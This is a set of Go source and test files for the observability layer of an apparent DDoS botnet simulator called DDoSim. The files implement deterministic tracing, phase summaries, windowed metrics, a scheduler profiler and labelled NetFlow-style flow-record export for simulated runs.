		sb.Reset()
		sb.WriteString(`{"t_s":`)
		sb.WriteString(fmtFloat(w.times[i].Seconds()))
		for j, v := range row {
			sb.WriteByte(',')
			fmt.Fprintf(&sb, "%q:", w.cols[j].name)
			sb.WriteString(fmtFloat(v))
		}
		sb.WriteString("}\n")
		if _, err := io.WriteString(out, sb.String()); err != nil {
			return err
		}
	}
	return nil
}
