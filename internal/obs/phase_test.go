package obs

import (
	"testing"

	"ddosim/internal/sim"
)

func TestSummarizePhases(t *testing.T) {
	tr := NewTracer()
	tr.RecordSpan(0, 2*sim.Second, CatKillChain, "exploit")
	tr.RecordSpan(0, 4*sim.Second, CatKillChain, "exploit")
	tr.RecordSpan(1*sim.Second, 2*sim.Second, CatKillChain, "load")
	tr.RecordSpan(0, 10*sim.Second, "fault", "cnc-outage")
	// Different category, must be excluded.
	id := tr.BeginSpan(0, CatPhase, "recruitment")
	tr.EndSpan(id, 30*sim.Second)

	stats := SummarizePhases(tr.Spans(), CatKillChain, "fault")
	if len(stats) != 3 {
		t.Fatalf("got %d phases: %+v", len(stats), stats)
	}
	// Sorted by phase name: cnc-outage, exploit, load.
	if stats[0].Phase != "cnc-outage" || stats[1].Phase != "exploit" || stats[2].Phase != "load" {
		t.Fatalf("order: %+v", stats)
	}
	ex := stats[1]
	if ex.Count != 2 || ex.MinSecs != 2 || ex.MaxSecs != 4 || ex.MeanSecs != 3 || ex.TotalSecs != 6 {
		t.Fatalf("exploit stat %+v", ex)
	}
}

func TestSummarizePhasesEmpty(t *testing.T) {
	if got := SummarizePhases(nil, CatKillChain); len(got) != 0 {
		t.Fatalf("want empty, got %+v", got)
	}
}

func TestRecordSpanClampsAndSequences(t *testing.T) {
	tr := NewTracer()
	tr.Event(1*sim.Second, CatNet, "before")
	tr.RecordSpan(5*sim.Second, 3*sim.Second, CatKillChain, "weird") // end < start
	sp := tr.Spans()
	if len(sp) != 1 {
		t.Fatalf("spans %d", len(sp))
	}
	if sp[0].End != sp[0].Start {
		t.Fatalf("end not clamped: %+v", sp[0])
	}
	// Recorded after the event, so it must merge after it.
	recs := tr.merged()
	if len(recs) != 2 || recs[0].Type != "event" || recs[1].Type != "span" {
		t.Fatalf("merge order: %+v", recs)
	}
}
