package obs

import (
	"strings"
	"testing"

	"ddosim/internal/sim"
)

func TestWindowsSampleAndCSV(t *testing.T) {
	w := NewWindows(sim.Second)
	infected := 0.0
	sent := 0.0
	w.Column("infected", func() float64 { return infected })
	w.DeltaColumn("tx_bytes", func() float64 { return sent })

	infected, sent = 2, 1000
	w.Sample(1 * sim.Second)
	infected, sent = 5, 1800
	w.Sample(2 * sim.Second)

	if w.Rows() != 2 {
		t.Fatalf("rows=%d", w.Rows())
	}
	var sb strings.Builder
	if err := w.WriteCSV(&sb); err != nil {
		t.Fatal(err)
	}
	want := "window_start_s,infected,tx_bytes\n0,2,1000\n1,5,800\n"
	if sb.String() != want {
		t.Fatalf("csv:\n%s\nwant:\n%s", sb.String(), want)
	}
}

func TestWindowsSampleIdempotentAtSameInstant(t *testing.T) {
	w := NewWindows(sim.Second)
	calls := 0
	w.Column("c", func() float64 { calls++; return float64(calls) })
	w.Sample(1 * sim.Second)
	w.Sample(1 * sim.Second) // tail flush colliding with ticker fire
	w.Sample(500 * sim.Millisecond)
	if w.Rows() != 1 || calls != 1 {
		t.Fatalf("rows=%d calls=%d, want 1/1", w.Rows(), calls)
	}
}

func TestWindowsReadsOncePerSampleInOrder(t *testing.T) {
	w := NewWindows(sim.Second)
	var order []string
	w.Column("a", func() float64 { order = append(order, "a"); return 0 })
	w.Column("b", func() float64 { order = append(order, "b"); return 0 })
	w.Sample(1 * sim.Second)
	w.Sample(2 * sim.Second)
	if got := strings.Join(order, ""); got != "abab" {
		t.Fatalf("read order %q", got)
	}
}

func TestWindowsWriteJSONL(t *testing.T) {
	w := NewWindows(sim.Second)
	w.Column("infected", func() float64 { return 3 })
	w.Column("rate", func() float64 { return 0.5 })
	w.Sample(1 * sim.Second)
	var sb strings.Builder
	if err := w.WriteJSONL(&sb); err != nil {
		t.Fatal(err)
	}
	want := `{"t_s":0,"infected":3,"rate":0.5}` + "\n"
	if sb.String() != want {
		t.Fatalf("jsonl:\n%s\nwant:\n%s", sb.String(), want)
	}
}

func TestWindowsNilSafe(t *testing.T) {
	var w *Windows
	w.Column("x", func() float64 { return 1 })
	w.DeltaColumn("y", func() float64 { return 1 })
	w.Sample(sim.Second)
	if w.Rows() != 0 || w.Width() != 0 {
		t.Fatal("nil windows should be inert")
	}
	var sb strings.Builder
	if err := w.WriteCSV(&sb); err != nil {
		t.Fatal(err)
	}
	if sb.String() != "window_start_s\n" {
		t.Fatalf("nil csv %q", sb.String())
	}
	if err := w.WriteJSONL(&sb); err != nil {
		t.Fatal(err)
	}
}

func TestNewWindowsPanicsOnBadWidth(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("expected panic")
		}
	}()
	NewWindows(0)
}
