package obs

import (
	"reflect"
	"testing"

	"ddosim/internal/sim"
)

func TestProfilerAccounting(t *testing.T) {
	p := NewProfiler()
	var wall int64
	p.SetClock(func() int64 { wall += 1000; return wall })

	p.OnEvent(0, "net.tx", 3)
	p.OnEvent(500*sim.Millisecond, "net.tx", 9)
	p.OnEvent(900*sim.Millisecond, "", 2) // unlabeled
	p.OnEvent(1500*sim.Millisecond, "churn.epoch", 1)
	p.OnEvent(2100*sim.Millisecond, "net.tx", 0)

	if got := p.TotalEvents(); got != 5 {
		t.Errorf("total = %d, want 5", got)
	}
	if got := p.PeakPending(); got != 9 {
		t.Errorf("peak pending = %d, want 9", got)
	}
	by := p.BySource()
	if by["net.tx"] != 3 || by["churn.epoch"] != 1 || by["unlabeled"] != 1 {
		t.Errorf("by source = %v", by)
	}

	// Seconds 0 and 1 are closed; second 2 is still in progress. The
	// injected clock advances 1000ns per read, one read per boundary.
	samples := p.Samples()
	want := []SecSample{
		{Sec: 0, Events: 3, WallNS: 1000},
		{Sec: 1, Events: 1, WallNS: 1000},
	}
	if !reflect.DeepEqual(samples, want) {
		t.Errorf("samples = %v, want %v", samples, want)
	}
	if got := p.MeanWallNSPerSimSec(); got != 1000 {
		t.Errorf("mean wall/sim-sec = %d, want 1000", got)
	}

	top := p.TopSources(2)
	if len(top) != 2 || top[0].Source != "net.tx" || top[0].Events != 3 {
		t.Errorf("top sources = %v", top)
	}
	// Ties break by name: churn.epoch before unlabeled.
	if top[1].Source != "churn.epoch" {
		t.Errorf("tiebreak = %q, want churn.epoch", top[1].Source)
	}
}

func TestProfilerClockReadsOnlyAtBoundaries(t *testing.T) {
	p := NewProfiler()
	reads := 0
	p.SetClock(func() int64 { reads++; return int64(reads) })
	for i := 0; i < 1000; i++ {
		p.OnEvent(sim.Time(i)*sim.Millisecond, "net.tx", 0) // all within second 0
	}
	if reads != 1 { // one read arming second 0
		t.Errorf("clock reads = %d, want 1", reads)
	}
	p.OnEvent(sim.Second, "net.tx", 0)
	if reads != 2 { // one more closing second 0
		t.Errorf("clock reads after boundary = %d, want 2", reads)
	}
}

func TestProfilerNilSafe(t *testing.T) {
	var p *Profiler
	p.OnEvent(0, "x", 1)
	p.SetClock(func() int64 { return 0 })
	if p.TotalEvents() != 0 || p.PeakPending() != 0 {
		t.Error("nil profiler accumulated")
	}
	if p.BySource() != nil || p.Samples() != nil || p.TopSources(3) != nil {
		t.Error("nil profiler returned data")
	}
	if p.MeanWallNSPerSimSec() != 0 {
		t.Error("nil profiler reported wall time")
	}
	if p.String() != "profiler: off" {
		t.Errorf("nil String = %q", p.String())
	}
}

func TestObsSummarizeAndHook(t *testing.T) {
	var o *Obs
	if s := o.Summarize(); !reflect.DeepEqual(s, Summary{}) {
		t.Errorf("nil Summarize = %+v", s)
	}
	if o.SchedulerHook() != nil {
		t.Error("nil Obs produced a hook")
	}
	if o.Tracer() != nil || o.Registry() != nil || o.Profiler() != nil {
		t.Error("nil Obs handed out components")
	}

	live := New()
	live.Trace.Event(0, CatNet, "queue-drop")
	live.Trace.BeginSpan(0, CatPhase, "deploy")
	hook := live.SchedulerHook()
	if hook == nil {
		t.Fatal("no hook from live Obs")
	}
	hook(0, "net.tx", 4)
	hook(0, "net.tx", 2)
	s := live.Summarize()
	if s.TraceSpans != 1 || s.TraceEvents != 1 {
		t.Errorf("summary trace counts = %+v", s)
	}
	if s.EventsDelivered != 2 || s.PeakPending != 4 {
		t.Errorf("summary profiler counts = %+v", s)
	}
	if len(s.TopSources) != 1 || s.TopSources[0] != (SourceLoad{Source: "net.tx", Events: 2}) {
		t.Errorf("summary top sources = %v", s.TopSources)
	}
}
