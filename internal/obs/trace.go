package obs

import (
	"encoding/json"
	"fmt"
	"io"
	"sort"

	"ddosim/internal/sim"
)

// Standard trace categories. Emitters are free to invent more; these
// are the ones the built-in instrumentation uses.
const (
	CatPhase     = "phase"     // run phases: deploy, recruitment, attack
	CatExploit   = "exploit"   // exploit attempts and outcomes
	CatCNC       = "cnc"       // C&C registration and commands
	CatChurn     = "churn"     // device membership flips, epochs
	CatNet       = "net"       // network-level events (queue drops)
	CatKillChain = "killchain" // per-bot kill-chain stages: scan, exploit, load, recruit, attack
)

// KV is one ordered key/value annotation on a span or event.
type KV struct {
	K, V string
}

// SpanID identifies an open span so it can be ended.
type SpanID int

// Span is a named interval of simulated time (a run phase, a churn
// epoch).
type Span struct {
	ID    SpanID
	Cat   string
	Name  string
	Start sim.Time
	End   sim.Time
	Args  []KV

	seq  uint64
	open bool

	// Sharded-mode merge stamp: the emitting logical process and its
	// private emission sequence (see Tracer.SetStamper). Zero in the
	// legacy kernel; never serialized, so legacy artifacts are
	// unchanged.
	lp    uint32
	lpSeq uint64
}

// Event is a point occurrence at one simulated instant.
type Event struct {
	At   sim.Time
	Cat  string
	Name string
	Args []KV

	seq uint64

	// Sharded-mode merge stamp (see Span).
	lp    uint32
	lpSeq uint64
}

// DefaultMaxEvents caps recorded point events so a pathological run
// cannot exhaust memory; spans are never dropped (their count is
// bounded by phases and epochs). The cap is deterministic: the same
// run drops the same events.
const DefaultMaxEvents = 1 << 20

// Tracer records spans and events for one run. It is not safe for
// concurrent use — the simulation kernel is single-threaded, and so is
// the tracer. All methods are nil-safe so instrumented code can carry
// an optional tracer without guards.
type Tracer struct {
	spans   []Span
	events  []Event
	seq     uint64
	max     int
	dropped uint64

	// stamper supplies the (LP, per-LP emission sequence) merge stamp
	// for sharded runs; nil in the legacy kernel. The stamp is a
	// partition-independent total order within one LP, so per-shard
	// tracers merge deterministically (see MergeTracers).
	stamper func() (lp uint32, seq uint64)
}

// NewTracer returns an empty tracer with the default event cap.
func NewTracer() *Tracer {
	return &Tracer{max: DefaultMaxEvents}
}

// SetMaxEvents overrides the point-event cap; n <= 0 removes it.
func (t *Tracer) SetMaxEvents(n int) {
	if t == nil {
		return
	}
	t.max = n
}

// SetStamper installs the sharded-mode emission stamper. Every
// subsequent span or event records the stamp the hook returns at
// emission time; MergeTracers orders entries by (time, stamp).
func (t *Tracer) SetStamper(fn func() (lp uint32, seq uint64)) {
	if t == nil {
		return
	}
	t.stamper = fn
}

func (t *Tracer) stamp() (uint32, uint64) {
	if t.stamper == nil {
		return 0, 0
	}
	return t.stamper()
}

// Event records a point event at simulated instant at.
func (t *Tracer) Event(at sim.Time, cat, name string, args ...KV) {
	if t == nil {
		return
	}
	if t.max > 0 && len(t.events) >= t.max {
		t.dropped++
		return
	}
	t.seq++
	lp, lpSeq := t.stamp()
	t.events = append(t.events, Event{At: at, Cat: cat, Name: name, Args: args, seq: t.seq, lp: lp, lpSeq: lpSeq}) //simlint:allow allocfree(trace buffer growth happens only when tracing is armed; untraced runs return at the nil-receiver guard above)
}

// BeginSpan opens a span at simulated instant at and returns its id.
func (t *Tracer) BeginSpan(at sim.Time, cat, name string, args ...KV) SpanID {
	if t == nil {
		return -1
	}
	t.seq++
	id := SpanID(len(t.spans))
	lp, lpSeq := t.stamp()
	t.spans = append(t.spans, Span{
		ID: id, Cat: cat, Name: name, Start: at, End: at, Args: args,
		seq: t.seq, open: true, lp: lp, lpSeq: lpSeq,
	})
	return id
}

// EndSpan closes a span at simulated instant at. Ending an unknown or
// already-closed span is a no-op.
func (t *Tracer) EndSpan(id SpanID, at sim.Time) {
	if t == nil || id < 0 || int(id) >= len(t.spans) {
		return
	}
	sp := &t.spans[id]
	if !sp.open {
		return
	}
	sp.open = false
	if at > sp.Start {
		sp.End = at
	}
}

// RecordSpan appends an already-closed span covering [start, end].
// Use it when the interval's endpoints are only known in retrospect —
// e.g. a kill-chain stage whose start was noted before it was certain
// a span would be produced. The span is sequenced at record time, so
// it appears in exports at its completion point; end times before
// start are clamped to start.
func (t *Tracer) RecordSpan(start, end sim.Time, cat, name string, args ...KV) {
	if t == nil {
		return
	}
	if end < start {
		end = start
	}
	t.seq++
	lp, lpSeq := t.stamp()
	t.spans = append(t.spans, Span{
		ID: SpanID(len(t.spans)), Cat: cat, Name: name,
		Start: start, End: end, Args: args, seq: t.seq, lp: lp, lpSeq: lpSeq,
	})
}

// CloseOpenSpans ends every still-open span at the given instant —
// called once when a run finishes so exports never carry zero-length
// phantom phases.
func (t *Tracer) CloseOpenSpans(at sim.Time) {
	if t == nil {
		return
	}
	for i := range t.spans {
		if t.spans[i].open {
			t.EndSpan(SpanID(i), at)
		}
	}
}

// Spans returns a copy of all recorded spans in begin order.
func (t *Tracer) Spans() []Span {
	if t == nil {
		return nil
	}
	out := make([]Span, len(t.spans))
	copy(out, t.spans)
	return out
}

// Events returns a copy of all recorded point events in record order.
func (t *Tracer) Events() []Event {
	if t == nil {
		return nil
	}
	out := make([]Event, len(t.events))
	copy(out, t.events)
	return out
}

// Dropped reports how many point events hit the cap.
func (t *Tracer) Dropped() uint64 {
	if t == nil {
		return 0
	}
	return t.dropped
}

// CountEvents reports how many point events of the given category and
// name were recorded; empty strings match anything.
func (t *Tracer) CountEvents(cat, name string) int {
	if t == nil {
		return 0
	}
	n := 0
	for _, e := range t.events {
		if (cat == "" || e.Cat == cat) && (name == "" || e.Name == name) {
			n++
		}
	}
	return n
}

// MergeTracers combines per-shard tracers into one, ordered by the
// partition-independent key (time, emitting LP, per-LP emission
// sequence) — the same merge the sharded kernel applies to mailbox
// messages. Spans order by their start time. The inputs must have been
// stamped (SetStamper); within one LP the emission sequence is a total
// order, so the merged stream is a pure function of the run,
// independent of the shard count. The merged tracer carries fresh
// interleave sequence numbers and span IDs; input tracers are left
// untouched and the sum of their drop counts is preserved.
func MergeTracers(parts ...*Tracer) *Tracer {
	m := NewTracer()
	m.max = 0 // inputs already enforced their caps
	for _, p := range parts {
		if p == nil {
			continue
		}
		m.spans = append(m.spans, p.spans...)
		m.events = append(m.events, p.events...)
		m.dropped += p.dropped
	}
	sort.SliceStable(m.spans, func(i, j int) bool {
		a, b := &m.spans[i], &m.spans[j]
		if a.Start != b.Start {
			return a.Start < b.Start
		}
		if a.lp != b.lp {
			return a.lp < b.lp
		}
		return a.lpSeq < b.lpSeq
	})
	sort.SliceStable(m.events, func(i, j int) bool {
		a, b := &m.events[i], &m.events[j]
		if a.At != b.At {
			return a.At < b.At
		}
		if a.lp != b.lp {
			return a.lp < b.lp
		}
		return a.lpSeq < b.lpSeq
	})
	// Re-sequence the interleave: a span at (t, lp, n) precedes an
	// event at (t, lp, m) iff n < m; ties across LPs break low-LP
	// first, events of the same position after spans (a span's begin
	// stamp was drawn before any same-position event's).
	si, ei := 0, 0
	var seq uint64
	spanFirst := func() bool {
		if si >= len(m.spans) {
			return false
		}
		if ei >= len(m.events) {
			return true
		}
		sp, ev := &m.spans[si], &m.events[ei]
		if sp.Start != ev.At {
			return sp.Start < ev.At
		}
		if sp.lp != ev.lp {
			return sp.lp < ev.lp
		}
		return sp.lpSeq < ev.lpSeq
	}
	for si < len(m.spans) || ei < len(m.events) {
		seq++
		if spanFirst() {
			m.spans[si].seq = seq
			m.spans[si].ID = SpanID(si)
			si++
		} else {
			m.events[ei].seq = seq
			ei++
		}
	}
	m.seq = seq
	return m
}

// record is the unified JSONL row: spans carry end_us, events do not.
type record struct {
	Type  string            `json:"type"` // "span" | "event"
	Cat   string            `json:"cat"`
	Name  string            `json:"name"`
	AtUS  int64             `json:"ts_us"`
	EndUS *int64            `json:"end_us,omitempty"`
	Args  map[string]string `json:"args,omitempty"`
}

func argMap(args []KV) map[string]string {
	if len(args) == 0 {
		return nil
	}
	m := make(map[string]string, len(args))
	for _, kv := range args {
		m[kv.K] = kv.V
	}
	return m
}

func micros(t sim.Time) int64 { return int64(t / sim.Microsecond) }

// merged returns spans and events interleaved in record (seq) order,
// which for a single-threaded simulation is chronological by begin
// time. The order — and therefore every exported byte — is a pure
// function of the run.
func (t *Tracer) merged() []record {
	out := make([]record, 0, len(t.spans)+len(t.events))
	si, ei := 0, 0
	for si < len(t.spans) || ei < len(t.events) {
		if ei >= len(t.events) || (si < len(t.spans) && t.spans[si].seq < t.events[ei].seq) {
			sp := t.spans[si]
			end := micros(sp.End)
			out = append(out, record{
				Type: "span", Cat: sp.Cat, Name: sp.Name,
				AtUS: micros(sp.Start), EndUS: &end, Args: argMap(sp.Args),
			})
			si++
			continue
		}
		ev := t.events[ei]
		out = append(out, record{
			Type: "event", Cat: ev.Cat, Name: ev.Name,
			AtUS: micros(ev.At), Args: argMap(ev.Args),
		})
		ei++
	}
	return out
}

// WriteJSONL writes one JSON object per line, spans and events
// interleaved in record order. encoding/json sorts map keys, so the
// output is byte-deterministic.
func (t *Tracer) WriteJSONL(w io.Writer) error {
	if t == nil {
		return nil
	}
	enc := json.NewEncoder(w)
	for _, r := range t.merged() {
		if err := enc.Encode(r); err != nil {
			return err
		}
	}
	return nil
}

// chromeEvent is one entry of the Chrome trace_event format
// (catapult "JSON Array Format"): spans become "X" complete events,
// point events become "i" instants. Timestamps are microseconds of
// simulated time.
type chromeEvent struct {
	Name  string            `json:"name"`
	Cat   string            `json:"cat"`
	Phase string            `json:"ph"`
	TS    int64             `json:"ts"`
	Dur   *int64            `json:"dur,omitempty"`
	PID   int               `json:"pid"`
	TID   int               `json:"tid"`
	Scope string            `json:"s,omitempty"`
	Args  map[string]string `json:"args,omitempty"`
}

// WriteChromeTrace writes the run as Chrome trace_event JSON, loadable
// in chrome://tracing and Perfetto. Each category gets its own track
// (tid), assigned in sorted category order for determinism.
func (t *Tracer) WriteChromeTrace(w io.Writer) error {
	if t == nil {
		_, err := io.WriteString(w, "[]\n")
		return err
	}
	cats := make(map[string]bool)
	for _, sp := range t.spans {
		cats[sp.Cat] = true
	}
	for _, ev := range t.events {
		cats[ev.Cat] = true
	}
	sorted := make([]string, 0, len(cats))
	for c := range cats {
		sorted = append(sorted, c)
	}
	sort.Strings(sorted)
	tid := make(map[string]int, len(sorted))
	for i, c := range sorted {
		tid[c] = i + 1
	}

	out := make([]chromeEvent, 0, len(t.spans)+len(t.events))
	for _, r := range t.merged() {
		ce := chromeEvent{
			Name: r.Name, Cat: r.Cat, TS: r.AtUS,
			PID: 1, TID: tid[r.Cat], Args: r.Args,
		}
		if r.Type == "span" {
			dur := *r.EndUS - r.AtUS
			ce.Phase = "X"
			ce.Dur = &dur
		} else {
			ce.Phase = "i"
			ce.Scope = "t"
		}
		out = append(out, ce)
	}

	if _, err := io.WriteString(w, "[\n"); err != nil {
		return err
	}
	for i, ce := range out {
		b, err := json.Marshal(ce)
		if err != nil {
			return err
		}
		sep := ",\n"
		if i == len(out)-1 {
			sep = "\n"
		}
		if _, err := fmt.Fprintf(w, "%s%s", b, sep); err != nil {
			return err
		}
	}
	_, err := io.WriteString(w, "]\n")
	return err
}
