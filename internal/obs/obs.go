// Package obs is DDoSim's unified observability layer: structured run
// tracing, a metrics registry, and a scheduler profiler. It plays the
// role a tracing/metrics stack plays in a production serving system —
// every phase of a run (deploy, recruitment, attack window, churn
// epochs) and every notable point event (exploit attempt, C&C command,
// device up/down, queue drop) is recorded against the simulated clock,
// so a run can be replayed, diffed, and inspected after the fact.
//
// Three components, bundled by Obs:
//
//   - Tracer: typed spans and point events keyed to sim.Time,
//     exportable as JSONL or as Chrome trace_event JSON that opens
//     directly in chrome://tracing or Perfetto.
//   - Registry: named counters, gauges, and histograms with a
//     Prometheus-style text dump, replacing scattered one-off counters.
//   - Profiler: per-event-source counts and wall-clock-per-sim-second
//     samples hooked into the scheduler's run loop.
//
// Determinism contract: everything the Tracer and Registry emit is a
// pure function of the simulation (timestamps are sim.Time, never
// time.Now), so two runs with the same seed dump byte-identical traces
// and metrics. Only the Profiler touches the wall clock, and its
// samples never feed back into trace or metrics output.
//
// All methods are safe on a nil receiver, so instrumented packages can
// hold an optional *obs.Obs and skip the nil checks at every call site.
package obs

import "ddosim/internal/sim"

// Obs bundles the three observability components for one run.
type Obs struct {
	Trace   *Tracer
	Metrics *Registry
	Prof    *Profiler
}

// New returns a fully-armed observability bundle.
func New() *Obs {
	return &Obs{
		Trace:   NewTracer(),
		Metrics: NewRegistry(),
		Prof:    NewProfiler(),
	}
}

// Tracer returns the tracer, or nil when o is nil.
func (o *Obs) Tracer() *Tracer {
	if o == nil {
		return nil
	}
	return o.Trace
}

// Registry returns the metrics registry, or nil when o is nil.
func (o *Obs) Registry() *Registry {
	if o == nil {
		return nil
	}
	return o.Metrics
}

// Profiler returns the profiler, or nil when o is nil.
func (o *Obs) Profiler() *Profiler {
	if o == nil {
		return nil
	}
	return o.Prof
}

// Summary condenses a run's observability data for reports: it is
// embedded in core.Results and serialized by internal/report.
type Summary struct {
	// TraceSpans and TraceEvents count recorded spans and point
	// events; TraceDropped counts events discarded past the cap.
	TraceSpans   int    `json:"trace_spans"`
	TraceEvents  int    `json:"trace_events"`
	TraceDropped uint64 `json:"trace_dropped,omitempty"`

	// EventsDelivered is the total scheduler events the profiler
	// observed; TopSources are the busiest event sources, descending.
	EventsDelivered uint64       `json:"events_delivered"`
	TopSources      []SourceLoad `json:"top_sources,omitempty"`

	// PeakPending is the deepest the scheduler queue got.
	PeakPending int `json:"peak_pending"`

	// WallNSPerSimSec is the mean wall-clock nanoseconds spent per
	// simulated second (0 when the profiler saw under one second).
	WallNSPerSimSec int64 `json:"wall_ns_per_sim_sec,omitempty"`
}

// Summarize condenses the bundle. Safe on nil (returns the zero
// Summary).
func (o *Obs) Summarize() Summary {
	var s Summary
	if o == nil {
		return s
	}
	if o.Trace != nil {
		s.TraceSpans = len(o.Trace.spans)
		s.TraceEvents = len(o.Trace.events)
		s.TraceDropped = o.Trace.Dropped()
	}
	if o.Prof != nil {
		s.EventsDelivered = o.Prof.TotalEvents()
		s.TopSources = o.Prof.TopSources(5)
		s.PeakPending = o.Prof.PeakPending()
		s.WallNSPerSimSec = o.Prof.MeanWallNSPerSimSec()
	}
	return s
}

// SchedulerHook adapts the bundle to sim.Scheduler.SetHook: it feeds
// the profiler every delivered event. Safe on nil (returns nil, which
// the scheduler treats as "no hook").
func (o *Obs) SchedulerHook() func(at sim.Time, src string, pending int) {
	if o == nil || o.Prof == nil {
		return nil
	}
	return o.Prof.OnEvent
}
