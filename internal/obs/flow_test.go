package obs

import (
	"net/netip"
	"strings"
	"testing"
)

func mkRec(startUS, endUS int64, label string, pkts, bytes uint64) FlowRecord {
	return FlowRecord{
		StartUS: startUS, EndUS: endUS, Proto: "udp",
		Src:     netip.MustParseAddrPort("10.0.0.2:4000"),
		Dst:     netip.MustParseAddrPort("10.0.0.1:9999"),
		Packets: pkts, Bytes: bytes, Label: label, Reason: FlowIdle,
	}
}

func TestFlowBufferAccumulatesCopies(t *testing.T) {
	var b FlowBuffer
	batch := []FlowRecord{mkRec(0, 10, "benign", 1, 100), mkRec(5, 20, "attack", 2, 200)}
	b.ExportFlows(batch)
	batch[0].Packets = 99 // sink must have copied
	b.ExportFlows(batch[:1])

	if b.Len() != 3 || b.Batches() != 2 {
		t.Fatalf("len=%d batches=%d, want 3/2", b.Len(), b.Batches())
	}
	if b.Records()[0].Packets != 1 {
		t.Fatalf("buffer aliases the exporter batch: %+v", b.Records()[0])
	}
}

func TestFlowBufferStats(t *testing.T) {
	var b FlowBuffer
	b.ExportFlows([]FlowRecord{
		mkRec(0, 10, "benign", 1, 100),
		mkRec(0, 10, "attack", 4, 400),
		mkRec(0, 10, "attack", 6, 600),
	})
	s := b.Stats()
	if s.Flows != 3 || s.Packets != 11 || s.Bytes != 1100 {
		t.Fatalf("stats %+v", s)
	}
	if len(s.Labels) != 2 || s.Labels[0].Label != "attack" || s.Labels[1].Label != "benign" {
		t.Fatalf("labels not sorted: %+v", s.Labels)
	}
	if s.Labels[0].Flows != 2 || s.Labels[0].Packets != 10 || s.Labels[0].Bytes != 1000 {
		t.Fatalf("attack class %+v", s.Labels[0])
	}
}

func TestFlowBufferWriteCSV(t *testing.T) {
	var b FlowBuffer
	b.ExportFlows([]FlowRecord{mkRec(1_000_000, 2_000_000, "attack", 3, 300)})
	var sb strings.Builder
	if err := b.WriteCSV(&sb); err != nil {
		t.Fatal(err)
	}
	want := FlowCSVHeader + "\n" +
		"1000000,2000000,udp,10.0.0.2:4000,10.0.0.1:9999,3,300,0,attack,idle\n"
	if sb.String() != want {
		t.Fatalf("csv:\n%s\nwant:\n%s", sb.String(), want)
	}
}

func TestFlowBufferWriteJSONL(t *testing.T) {
	var b FlowBuffer
	b.ExportFlows([]FlowRecord{mkRec(0, 10, "benign", 1, 64)})
	var sb strings.Builder
	if err := b.WriteJSONL(&sb); err != nil {
		t.Fatal(err)
	}
	want := `{"start_us":0,"end_us":10,"proto":"udp","src":"10.0.0.2:4000","dst":"10.0.0.1:9999","packets":1,"bytes":64,"tcp_flags":0,"label":"benign","reason":"idle"}` + "\n"
	if sb.String() != want {
		t.Fatalf("jsonl:\n%s\nwant:\n%s", sb.String(), want)
	}
}

func TestFlowBufferNilSafe(t *testing.T) {
	var b *FlowBuffer
	b.ExportFlows([]FlowRecord{mkRec(0, 1, "x", 1, 1)})
	if b.Len() != 0 || b.Batches() != 0 || b.Records() != nil {
		t.Fatal("nil buffer should be inert")
	}
	if s := b.Stats(); s.Flows != 0 {
		t.Fatalf("nil stats %+v", s)
	}
	var sb strings.Builder
	if err := b.WriteCSV(&sb); err != nil {
		t.Fatal(err)
	}
	if sb.String() != FlowCSVHeader+"\n" {
		t.Fatalf("nil csv %q", sb.String())
	}
	if err := b.WriteJSONL(&sb); err != nil {
		t.Fatal(err)
	}
}
