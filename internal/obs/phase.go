package obs

import "sort"

// PhaseStat summarizes the latency distribution of one named phase
// across all spans that recorded it — e.g. kill-chain stages (scan,
// exploit, load, recruit, attack) or fault windows (link-flap,
// cnc-outage).
type PhaseStat struct {
	Phase     string  `json:"phase"`
	Count     int     `json:"count"`
	MinSecs   float64 `json:"min_s"`
	MeanSecs  float64 `json:"mean_s"`
	MaxSecs   float64 `json:"max_s"`
	TotalSecs float64 `json:"total_s"`
}

// SummarizePhases aggregates closed spans whose category is in cats
// into per-phase latency summaries keyed by span name, sorted by phase
// name for deterministic serialization. Open spans (End < Start after
// CloseOpenSpans clamping they never are, but guard anyway) count with
// zero duration floor.
func SummarizePhases(spans []Span, cats ...string) []PhaseStat {
	want := make(map[string]bool, len(cats))
	for _, c := range cats {
		want[c] = true
	}
	byName := make(map[string]*PhaseStat)
	for i := range spans {
		sp := &spans[i]
		if !want[sp.Cat] {
			continue
		}
		d := (sp.End - sp.Start).Seconds()
		if d < 0 {
			d = 0
		}
		st := byName[sp.Name]
		if st == nil {
			st = &PhaseStat{Phase: sp.Name, MinSecs: d, MaxSecs: d}
			byName[sp.Name] = st
		}
		st.Count++
		st.TotalSecs += d
		if d < st.MinSecs {
			st.MinSecs = d
		}
		if d > st.MaxSecs {
			st.MaxSecs = d
		}
	}
	out := make([]PhaseStat, 0, len(byName))
	for _, st := range byName {
		st.MeanSecs = st.TotalSecs / float64(st.Count)
		out = append(out, *st)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Phase < out[j].Phase })
	return out
}
