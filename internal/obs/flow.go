package obs

import (
	"encoding/json"
	"fmt"
	"io"
	"net/netip"
	"sort"
	"strings"
)

// Flow-record export reasons, NetFlow-style: why the exporter closed
// (or checkpointed) the record.
const (
	// FlowIdle: no packet for the idle timeout; the flow is gone.
	FlowIdle = "idle"
	// FlowActive: the flow outlived the active timeout and was
	// checkpointed; accounting continues in a fresh record.
	FlowActive = "active"
	// FlowFinal: the run ended with the flow still live.
	FlowFinal = "final"
	// FlowEvict: the flow table hit its capacity and evicted the
	// oldest flow to make room.
	FlowEvict = "evict"
)

// FlowRecord is one exported NetFlow-v5-style record: unidirectional
// per-(src,dst,proto,ports) accounting over an interval of simulated
// time, plus the ground-truth label the simulation assigned when the
// flow was created ("attack", "cnc", "recruit", "exploit", "benign").
// Timestamps are microseconds of simulated time, so records are a pure
// function of the run.
type FlowRecord struct {
	StartUS  int64
	EndUS    int64
	Proto    string
	Src      netip.AddrPort
	Dst      netip.AddrPort
	Packets  uint64
	Bytes    uint64
	TCPFlags uint8
	Label    string
	Reason   string
}

// FlowSink receives batches of exported flow records. The batch slice
// is owned by the exporter and reused: implementations must copy what
// they keep and must not retain the slice.
type FlowSink interface {
	ExportFlows(batch []FlowRecord)
}

// FlowBuffer is the standard FlowSink: it accumulates copies of every
// exported record in export order and renders them as a CSV or JSONL
// dataset artifact. Export order is deterministic, so two same-seed
// runs write byte-identical artifacts. All methods are nil-safe.
type FlowBuffer struct {
	recs    []FlowRecord
	batches int
}

var _ FlowSink = (*FlowBuffer)(nil)

// ExportFlows implements FlowSink by copying the batch.
func (b *FlowBuffer) ExportFlows(batch []FlowRecord) {
	if b == nil {
		return
	}
	b.recs = append(b.recs, batch...) //simlint:allow allocfree(dataset sink: amortized growth once per flushed batch, not per packet; record hits between flushes touch only the flow table)
